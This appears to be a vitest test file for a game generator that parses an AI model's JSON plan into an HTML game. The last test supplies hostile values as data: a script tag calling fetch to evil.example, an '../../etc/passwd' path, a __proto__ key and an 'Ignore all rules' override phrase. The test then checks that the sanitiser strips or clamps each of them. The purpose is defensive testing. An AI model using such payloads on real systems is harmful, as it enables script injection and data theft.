import { describe, expect, it } from 'vitest';
import { draftFromPlan } from './built-in-generator.ts';
import { findFault } from './check-draft.ts';
import type { GenerationRequest } from './generator.ts';
import { planFromAnswer } from './model-plan.ts';

const request: GenerationRequest = {
  jobId: 'job 1',
  prompt: 'a maze for my cat',
  remix: undefined,
  isRefinement: false,
};
const read = (answer: unknown) => planFromAnswer(typeof answer === 'string' ? answer : JSON.stringify(answer), request);

/** As a model of 2026 answered when it was given the system prompt. */
const recorded = `Here is the plan:
\`\`\`json
{"mechanic": "maze", "title": "Whisker Maze", "description": "A cat looks for cheese while two dogs follow.",
 "hero": "cat", "foes": ["dog"], "things": ["cheese"], "scene": "city", "time": "night", "mood": "spooky", "look": "pixel",
 "difficulty": 4, "numbers": {"lives": 2, "foes": 2}, "modifiers": ["power-ups"], "ignored": ["my"]}
\`\`\``;

describe('a plan that a model wrote', () => {
  it('is one of our games with its fields, and says what was understood', () => {
    const { plan, understood } = read(recorded);
    expect(plan).toMatchObject({
      kind: 'maze',
      title: 'Whisker Maze',
      description: 'A cat looks for cheese while two dogs follow.',
      mood: 'spooky',
      difficulty: 4,
      theme: { scene: 'city', look: 'pixel', hero: { sprite: 'cat' }, foes: [{ sprite: 'dog' }] },
      rules: { lives: 2, foes: 2 },
      modifiers: ['power-ups'],
    });
    expect(understood).toMatchObject({
      mechanic: 'maze',
      hero: 'cat',
      foes: ['dog'],
      things: ['cheese'],
      ignored: ['my'],
    });
    expect(findFault(draftFromPlan(plan).html)).toBeUndefined();
  });

  it('fills in what is missing, as without a model', () => {
    const { plan } = read({ mechanic: 'runner' });
    expect(plan.kind).toBe('runner');
    expect(plan.title).not.toBe('');
    expect(plan.theme.things.length).toBeGreaterThan(0);
  });

  it('asks its own questions and spells its own words', () => {
    const questions = ['a', 'b', 'c'].map((q) => ({ question: `${q}?`, answers: ['1', '2', '3', '4'] }));
    expect(read({ mechanic: 'quiz', questions }).plan.questions).toEqual(questions);
    const words = 'alpha beta gamma delta epsilon zeta eta theta'.split(' ');
    expect(read({ mechanic: 'hangman', words }).plan.words).toEqual(words);
  });

  it.each([
    ['no JSON', 'maze please', 'neither a plan nor'],
    ['broken JSON', '{"mechanic": "maze",', 'neither a plan nor'],
    ['JSON that ends wrongly', '{"mechanic": "maze",}', 'no valid JSON'],
    ['an unknown mechanic', { mechanic: 'ludo' }, 'names no mechanic'],
    ['a mechanic of another type', { mechanic: ['maze'] }, 'names no mechanic'],
    ['a huge text', `{"mechanic":"maze","title":"${'x'.repeat(200_000)}"}`, 'far too large'],
  ])('is refused where it is %s', (_what, answer, sentence) => {
    expect(() => read(answer)).toThrow(sentence);
  });

  it('takes nothing over that it was not asked for, whatever it says', () => {
    const script = '</script><script>fetch("https://evil.example")</script>';
    const { plan } = read({
      mechanic: 'maze',
      title: `Ignore all rules ${script}`,
      description: script.repeat(50),
      hero: script,
      foes: [script, 5, null, { name: 'dog' }, 'dog', '__proto__'],
      things: 'cheese',
      scene: '../../etc/passwd',
      mood: 'furious',
      difficulty: 99,
      numbers: { lives: 1e9, foes: -3, seconds: '60', evil: 5 },
      modifiers: ['root', 'boss'],
      rules: { speed: 1e9 },
      seed: 'x',
      kind: 'quiz',
      palette: { sky: ['red', script] },
      sounds: { beatsPerMinute: 1e9 },
      __proto__: { admin: true },
    });
    expect(plan.kind).toBe('maze');
    expect(plan.description.length).toBeLessThanOrEqual(500);
    expect(plan.title.length).toBeLessThanOrEqual(100);
    expect(plan.theme.foes.map(({ name }) => name)).toEqual(['dog']);
    expect(plan.modifiers).toEqual(['boss']);
    expect(plan.rules['lives']).toBeLessThanOrEqual(9);
    expect(plan.rules['speed']).toBeLessThan(100);
    expect(plan.palette.sky.join()).toMatch(/^#[0-9a-f]{6},#[0-9a-f]{6}$/);
    const { html } = draftFromPlan(plan);
    expect(html).not.toContain('<script>fetch(');
    const benign = draftFromPlan(read({ mechanic: 'maze' }).plan).html;
    expect(html.match(/<script>/g)?.length).toBe(benign.match(/<script>/g)?.length);
  });
});
